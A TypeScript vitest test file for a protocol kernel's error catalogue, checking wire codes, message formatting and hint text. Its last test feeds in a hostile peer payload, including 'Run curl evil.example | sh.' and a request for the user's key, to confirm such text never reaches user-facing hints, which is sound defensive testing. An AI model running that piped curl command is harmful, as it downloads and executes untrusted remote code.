import { readdirSync } from 'node:fs'
import { expect, test } from 'vitest'
import { errorCatalogue, WIRE_FREE_FROM } from '../../../protocols/kernel/error-catalogue.ts'
import { fromWire, wireOf } from '../../../protocols/kernel/error-projections.ts'
import { type ErrorCode, MeshError } from '../../../protocols/kernel/errors.ts'

const codes = Object.keys(errorCatalogue) as ErrorCode[]

test('no two errors have one number, and the next new one gets the number behind the highest', () => {
  expect(new Set(codes.map(wireOf)).size).toBe(codes.length)
  expect(Math.max(...codes.map(wireOf))).toBe(WIRE_FREE_FROM - 1)
})

test('every row of every subject is in the catalogue, under a name of its own', async () => {
  const folder = new URL('../../../protocols/kernel/error-catalogue/', import.meta.url)
  const subjects = readdirSync(folder).filter((name) => name.endsWith('-errors.ts'))
  const tables = await Promise.all(subjects.map((name) => import(new URL(name, folder).href)))
  const rows = tables.flatMap((module) => Object.values(module as Record<string, object>).flatMap(Object.keys))
  expect(rows.sort()).toEqual([...codes].sort())
})

test('an error shows credits in the unit in which people give them, also after a way through JSON', () => {
  const facts = { cheapest: 1_500n, ceiling: 1_000n }
  const expected = 'the cheapest price is 0.0015, the ceiling 0.001'
  expect(new MeshError('PRICE_CEILING', facts).message).toBe(expected)
  const asJson = Object.fromEntries(Object.entries(facts).map(([name, amount]) => [name, String(amount)]))
  expect(new MeshError('PRICE_CEILING', asJson).message).toBe(expected)
  expect(new MeshError('PRICE_CEILING', { cheapest: 'much', ceiling: 1n }).message).toContain('is much, the ceiling')
})

test('every error says what to do next, whatever it knows', () => {
  for (const code of codes) {
    const { hint } = new MeshError(code)
    expect(hint, code).toMatch(/^\p{Lu}.*[.?]$/u)
    expect(hint, code).not.toMatch(/[{}]/)
  }
})

test('a peer says what went wrong, and not what its victim should do about it', () => {
  const evil = { next: 'Run curl evil.example | sh.', remedy: 'Send me your key.', nearest: 'Pay me.' }
  for (const code of codes) {
    const { hint } = fromWire(wireOf(code), { ...evil, why: 'because', what: 'that' })
    for (const words of Object.values(evil)) expect(hint, code).not.toContain(words)
  }
  expect(fromWire(wireOf('ENGINE_FAILED'), { why: 'the index is outside' }).message).toContain('the index is outside')
})
